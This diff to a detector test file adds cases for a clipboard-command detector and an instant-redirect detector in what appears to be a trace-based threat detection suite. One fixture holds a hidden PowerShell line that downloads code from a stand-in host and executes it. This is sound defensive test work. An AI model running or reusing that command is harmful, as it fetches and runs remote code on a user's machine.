@@ -1,7 +1,8 @@
 import { testFamily } from '../../../../test/trace/detector-table.ts'
-import { environment, file, runs, system } from '../../../../test/trace/empty-trace.ts'
+import { environment, file, gets, runs, system } from '../../../../test/trace/empty-trace.ts'
 import { executionDetectors } from './registry.ts'
 
+const page = environment({ host_program: 'browser' })
 const encoded = Buffer.from('Write-Output hello', 'utf16le').toString('base64')
 const smuggled = (path: string) => ({
   dropped: [{ path, bytes: Buffer.from('PK\u0003\u0004'), source: 'smuggled' as const }],
@@ -77,6 +78,25 @@ testFamily(executionDetectors, {
     misses: {
       'a file that was fetched': [{ dropped: [{ path: 'a.zip', bytes: new Uint8Array(), source: 'downloaded' }] }],
       nothing: [],
+    },
+  },
+  trace_puts_command_in_clipboard: {
+    hits: {
+      'a fetch and run': [
+        page,
+        system({ kind: 'clipboard', what: 'writes powershell -w hidden -c "iwr http://x.example | iex"' }),
+      ],
+    },
+    misses: {
+      'a text': [page, system({ kind: 'clipboard', what: 'writes Hello' })],
+      'a program that reads it': [page, system({ kind: 'clipboard', what: 'reads' })],
+    },
+  },
+  trace_page_leads_elsewhere: {
+    hits: { 'at once': [page, gets('https://x.example/', { via: 'navigation', atMs: 1 })] },
+    misses: {
+      'after a press': [page, gets('https://x.example/', { via: 'navigation', atMs: 600_000 })],
+      'a picture': [page, gets('https://x.example/a.png', { via: 'resource', atMs: 1 })],
     },
   },
   trace_loads_kernel_module: {
